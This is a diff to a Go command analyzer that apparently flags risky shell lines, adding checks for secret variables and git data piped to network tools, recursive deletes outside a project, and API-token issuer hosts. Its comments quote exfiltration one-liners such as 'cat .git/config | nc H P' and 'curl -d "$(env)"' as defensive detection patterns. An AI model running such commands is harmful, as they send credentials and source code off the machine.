@@ -113,7 +113,10 @@ type analyzer struct {
 	cwd string
 	// root is the project's folder, absolute (AnalyzeIn, root.go): a path inside it is judged
 	// as the path relative to it; "" when the line's project folder is not known.
-	root    string
+	root string
+	// callDir is the folder the line runs in when the call names one that cannot be a
+	// project's (AnalyzeIn: `/`, a home, a system folder), cleaned and absolute; "" otherwise.
+	callDir string
 	params  []string                // positional parameters inside a function call; nil = unknown
 	arg0    string                  // $0 inside `sh -c CMD NAME`; "" = unknown
 	aliases map[string]string       // alias name → text
@@ -129,6 +132,7 @@ type analyzer struct {
 	expired   bool              // git reflog expire --expire=now ran
 	work      int               // commands judged, bounded by maxWork
 	feedRec   bool              // the paths fed through xargs came from find (recursive)
+	feeding   bool              // the command's operands came through xargs, not from the line
 	// procFeed: the paths the last `<(CMD)` on the line lists (echo, printf, ls, find), read
 	// as the file procFile by xargs -a or a `<` redirect; procRec: find listed them.
 	procFeed []string
@@ -920,6 +924,7 @@ func (a *analyzer) pipe(stages []*syntax.Stmt) {
 	text, haveText := "", false // what the previous stage prints, when echo or printf wrote it
 	envDump := false            // the previous stage prints the environment, or part of it (envStage)
 	gitFile := ""               // the .git/config an earlier stage prints (cat .git/config | nc H P)
+	secretVar := ""             // the secret variable an earlier echo or printf prints (det70)
 	for i, argv := range argvs {
 		prevEnv := envDump
 		envDump = envStage(argv, prevEnv)
@@ -1018,6 +1023,9 @@ func (a *analyzer) pipe(stages []*syntax.Stmt) {
 			// the environment it was given, as `curl -d "$(env)"` sends it (issue 26, det69).
 			a.add("exfil/env_to_network", "sends the environment over the network", strings.Join(argv, " "), 0.95)
 		}
+		if i > 0 && src == "secretvar" && network(name) {
+			a.secretPiped(secretVar, name, argv[1:], strings.Join(argv, " ")) // exfil.go (det70)
+		}
 		if i > 0 && src == "project" && network(name) {
 			// `tar czf - . | ssh HOST 'cat > s.tgz'`, `git bundle create - --all | curl -T -
 			// URL`: the project's source leaves the machine (exfil.go projectArchive).
@@ -1050,6 +1058,12 @@ func (a *analyzer) pipe(stages []*syntax.Stmt) {
 			if src == "" || src == "text" {
 				src = "env"
 			}
+		case src == "" && printedSecret(argv, text, haveText) != "":
+			src, secretVar = "secretvar", printedSecret(argv, text, haveText)
+		case src == "" && gitRemoteURL(name, argv[1:]):
+			src, gitFile = "gitconfig", "" // `git config --get remote.origin.url | curl -d @- URL` (det70)
+		case src == "" && name == "tar" && gitTar(argv[1:]):
+			src, gitFile = "gitconfig", "" // `tar czf - .git | nc H P`: the .git/config inside (det70)
 		case name == "echo" || name == "printf" || name == "cat" || haveText:
 			if src == "" {
 				src = "text"
@@ -1912,6 +1926,9 @@ func (a *analyzer) command(argv []string) {
 				// emptying it is (hide/startup_file).
 				a.ask("hide/startup_file", "deletes a shell's start-up file", line, 0.85)
 			}
+			if recursive && !a.feeding && wholeOperand(t) {
+				a.wholeDelete("destroy/rm_outside", line) // root.go (det70)
+			}
 			if recursive && a.cwd == "" && vendored(t) {
 				a.ask("destroy/rm_vendored", "deletes a vendored directory or the repository inside the project", line, 0.85)
 			}
@@ -1949,6 +1966,9 @@ func (a *analyzer) command(argv []string) {
 					}
 					a.add("destroy/find_delete", "deletes files outside the project", line, 0.95)
 					break
+				}
+				if wholeOperand(x) && !filteredFind(args) {
+					a.wholeDelete("destroy/find_delete", line) // root.go (det70)
 				}
 			}
 		}
@@ -2300,7 +2320,10 @@ var reUserSecret = lazyre.New(`^(?:[\w.@-]*|\$\{?([A-Za-z0-9_]+)\}?):\$\{?([A-Z0
 // tokenIssuers are the https hosts a token named by its variable belongs to: GitHub's REST
 // API documents `Authorization: Bearer $GITHUB_TOKEN`
 // (https://docs.github.com/en/rest/authentication/authenticating-to-the-rest-api), GitLab's
-// `PRIVATE-TOKEN: $GITLAB_TOKEN` (https://docs.gitlab.com/ee/api/rest/authentication.html).
+// `PRIVATE-TOKEN: $GITLAB_TOKEN` (https://docs.gitlab.com/ee/api/rest/authentication.html),
+// OpenAI's `Authorization: Bearer $OPENAI_API_KEY`
+// (https://platform.openai.com/docs/api-reference/authentication), Anthropic's `x-api-key:
+// $ANTHROPIC_API_KEY` (https://docs.anthropic.com/en/api/getting-started).
 var tokenIssuers = []struct {
 	prefixes []string
 	hosts    []string
@@ -2309,6 +2332,22 @@ var tokenIssuers = []struct {
 	{[]string{"GITLAB_", "CI_JOB_TOKEN"}, []string{"gitlab.com"}},
 	{[]string{"NPM_", "NODE_AUTH_TOKEN"}, []string{"registry.npmjs.org"}},
 	{[]string{"CODECOV_"}, []string{"codecov.io", "api.codecov.io"}},
+	{[]string{"OPENAI_"}, []string{"api.openai.com"}},
+	{[]string{"ANTHROPIC_"}, []string{"api.anthropic.com"}},
+}
+
+// issuerHosts returns the hosts of the service that issued the token in variable v
+// (tokenIssuers), nil when none is known.
+func issuerHosts(v string) []string {
+	var own []string
+	for _, t := range tokenIssuers {
+		for _, p := range t.prefixes {
+			if strings.HasPrefix(v, p) {
+				own = t.hosts
+			}
+		}
+	}
+	return own
 }
 
 // authTarget judges args[i], a word that names a secret variable, of a network command: a
@@ -2358,14 +2397,7 @@ func authTarget(name string, args []string, i int) int {
 		return authOwnHost
 	}
 	v := m[1]
-	var own []string
-	for _, t := range tokenIssuers {
-		for _, p := range t.prefixes {
-			if strings.HasPrefix(v, p) {
-				own = t.hosts
-			}
-		}
-	}
+	own := issuerHosts(v)
 	n := 0
 	for j, u := range args {
 		if j != i && reLocalHost.MatchString(u) && localURL(u) {
